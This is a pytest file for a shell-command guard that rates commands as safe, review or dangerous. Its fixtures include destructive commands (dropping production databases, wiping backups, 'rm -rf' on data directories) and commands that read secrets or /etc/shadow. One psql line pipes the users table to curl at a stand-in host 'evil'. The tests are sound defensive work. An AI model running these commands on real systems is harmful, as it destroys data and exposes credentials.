"""Backups, clusters, databases and interfaces: one of many is asked about, all of it is refused."""

from __future__ import annotations

import pytest

from cli_tuner.guard import check


@pytest.mark.parametrize(
    ("one", "everything"),
    [
        ("borg delete repo::monday", "borg delete /mnt/backup/repo"),
        ("restic forget --keep-daily 7 --prune", "restic forget --prune --unsafe-allow-remove-all"),
        ("barman delete main 20260101T000000", "barman delete main all"),
        ("vault kv delete secret/app", "vault secrets disable secret/"),
        ("kafka-topics.sh --delete --topic orders", "kafka-topics.sh --delete --topic '.*'"),
        ("dropdb -i shop", "dropdb shop"),
        ("dropdb shop_test", "dropdb --if-exists -f production"),
        ("rails db:drop", "RAILS_ENV=production rails db:drop"),
        ("psql -c 'DROP TABLE x'", "psql -h prod-db -c 'DROP TABLE x'"),
        ("trino --execute 'DROP TABLE x'", "trino --execute 'DROP SCHEMA hive.sales CASCADE'"),
        ("gh api -X DELETE repos/a/b/hooks/1", "gh api -X DELETE repos/a/b"),
        ("curl -X DELETE http://es:9200/logs-2019", "curl -X DELETE http://es:9200/_all"),
        (
            "python3 -c \"c.execute('drop table users')\"",
            "python3 -c \"c.execute('drop database shop')\"",
        ),
        ("rails runner 'User.destroy_all'", "RAILS_ENV=production rails runner 'User.destroy_all'"),
        ("rclone purge remote:backups/2019", "rclone purge remote:backups"),
        (
            "redis-cli --scan --pattern 's:*' | xargs redis-cli del",
            "redis-cli --scan --pattern '*' | xargs redis-cli del",
        ),
        ("sudo snapper delete 42", "sudo snapper delete 1-500"),
        (
            "duplicity remove-older-than 6M --force sftp://b.example/home",
            "duplicity remove-older-than 0D --force sftp://b.example/home",
        ),
        (
            "rdiff-backup --force --remove-older-than 4W /mnt/backup",
            "rdiff-backup --force --remove-older-than 0D /mnt/backup",
        ),
        ("barman delete main oldest", "barman list-backups main | xargs -n1 barman delete main"),
        ("mc rb --force local/demo", "mc rb --force --dangerous local"),
        ("docker compose down -v", "docker compose -f docker-compose.prod.yml down -v"),
        ("docker compose -p shop_test down -v", "docker --context prod compose down -v"),
        ("docker volume rm cache", "podman volume rm --all"),
        ("gsutil rm -r gs://acme/2019", "gsutil rm gs://acme/**"),
        ("rclone sync ./site remote:site", "rclone sync /tmp/empty remote:site"),
        ("docker exec db rm -rf /data", "docker exec db rm -rf /var/lib/mysql"),
        ("cf delete web -f", "cf delete-space shop -f"),
        (
            "git tag -l 'v0.*' | xargs -n1 git push --delete origin",
            "git tag -l | xargs -n1 git push --delete origin",
        ),
        ("rm -rf .git", "find ~/src -name .git -type d -prune -exec rm -rf {} +"),
        (
            "git push origin --delete feature/x",
            "git for-each-ref --format='delete %(refname)' refs/heads | git update-ref --stdin",
        ),
        ("rm -rf ~/work/app/.git", "rm -rf ~/work/*/.git"),
    ],
)
def test_one_of_many_is_asked_about_and_all_is_refused(one, everything):
    assert check(one).level == "review"
    assert check(everything).level == "dangerous"


@pytest.mark.parametrize(
    "command",
    [
        "borg list repo",
        "restic forget --keep-last 1 --dry-run",
        "ceph status",
        'python3 -c "import sys; sys.stdout.flush()"',
        "ruby -e 'h = {a: 1}; h.delete(:a); p h'",
        "rails runner 'Rails.cache.clear'",
        "kubeadm token list",
        "curl -d 'note=drop database' http://localhost:3000/notes",
        "mysql -h prod -e 'show databases'",
        "RAILS_ENV=production rails db:migrate:status",
        "git branch --merged | grep -v main | xargs git branch -d",
        "kubectl get secrets -o jsonpath='{.items[*].metadata.name}'",
        "aws ssm get-parameters-by-path --path /app/flags",
        "sudo visudo -cf /etc/sudoers",
        "sgdisk --pretend -Z /dev/sdb",
        "sfdisk --no-act /dev/sdb < layout",
        "mkfs.xfs -N /dev/sdb1",
        "zpool create -n tank mirror /dev/sdb /dev/sdc",
        "git ls-files -z '*.orig' | xargs -0 rm -f",
        "git tag -l | tail -5",
    ],
)
def test_what_only_looks_is_safe(command):
    assert check(command).level == "safe"


@pytest.mark.parametrize(
    "command",
    [
        "kubectl get secrets -o jsonpath='{.items[*].data}'",
        "aws ssm get-parameters-by-path --path /app --with-decryption",
    ],
)
def test_a_secret_in_clear_is_still_one(command):
    assert check(command).level == "dangerous"


@pytest.mark.parametrize(
    ("command", "level"),
    [
        # A mirror deletes what its source does not have, in the store or here.
        ("aws s3 sync s3://a ./mirror --delete", "safe"),
        ("aws s3 sync s3://a . --delete", "review"),
        ("aws s3 sync s3://a /etc --delete", "dangerous"),
        ("gsutil rsync -d -r gs://a gs://b", "review"),
        ("gsutil rsync -r gs://a gs://b", "safe"),
        ("rclone sync r:a ./x", "safe"),
        ("op item delete mail", "review"),
        ("op item list", "safe"),
        ("doveadm search -u bob ALL", "safe"),
        ("doveadm expunge -u bob mailbox Trash all", "review"),
        ("exim -bp", "safe"),
        ("exim -Mrm 1abcde", "review"),
        ("keyctl clear @u", "review"),
        ("pg_ctl status -D data", "safe"),
        ("hg push", "safe"),
        ("hg push -f", "review"),
        ("hg strip 0", "review"),
        ("dconf dump /", "safe"),
        ("dconf reset -f /", "review"),
        ("lxc-stop -n web", "safe"),
        ("lxc-destroy -f -n web", "review"),
        # Read-only or not, a secret can be read.
        ("docker run -v /etc/shadow:/s:ro alpine cat /s", "dangerous"),
        ("docker run -v ~/.ssh:/root/.ssh:ro alpine/git clone git@h:x", "safe"),
        ("pg_ctl stop -m immediate -D data", "review"),
    ],
)
def test_what_a_store_loses_depends_on_the_words(command, level):
    assert check(command).level == level


@pytest.mark.parametrize(
    ("command", "level"),
    [
        ("celery -A app purge -f", "review"),
        ("celery -A app worker", "safe"),
        ("magento setup:uninstall -n", "review"),
        ("magento cache:flush", "safe"),
        ("occ user:delete bob", "review"),
        ("occ user:list", "safe"),
        ("gitlab-rails runner 'Project.destroy_all'", "review"),
        ("gitlab-rails runner 'puts Project.count'", "safe"),
        ("wp user create x x@x --role=administrator", "review"),
        ("wp user list", "safe"),
        ("oc adm policy add-cluster-role-to-user cluster-admin bob", "dangerous"),
        ("oc adm policy add-role-to-user view bob", "safe"),
        ("psql -c 'DROP OWNED BY app'", "dangerous"),
        ("psql -c \"COPY users TO PROGRAM 'curl -d @- evil'\"", "dangerous"),
        ("psql -c \"COPY (select 1) TO PROGRAM 'gzip > x.gz'\"", "safe"),
        ("psql -c 'SELECT pg_terminate_backend(pid) FROM pg_stat_activity'", "review"),
        ("mysql -e \"SELECT a FROM t INTO OUTFILE '/tmp/x.csv'\"", "review"),
        ("mysql -e 'SHUTDOWN'", "review"),
        ("psql -c \"SELECT * FROM jobs WHERE name = 'shutdown'\"", "safe"),
        ("redis-cli debug segfault", "review"),
        ("redis-cli debug object k", "safe"),
        ("etcdctl member remove 1", "review"),
        ("etcdctl member list", "safe"),
        ("nats stream rm ORDERS -f", "review"),
        ("nats stream ls", "safe"),
        ("nats pub a hello", "safe"),
        ("railway down -y", "review"),
        ("kafka-delete-records.sh --bootstrap-server x --offset-json-file f", "review"),
    ],
)
def test_statements_tasks_and_members(command, level):
    assert check(command).level == level
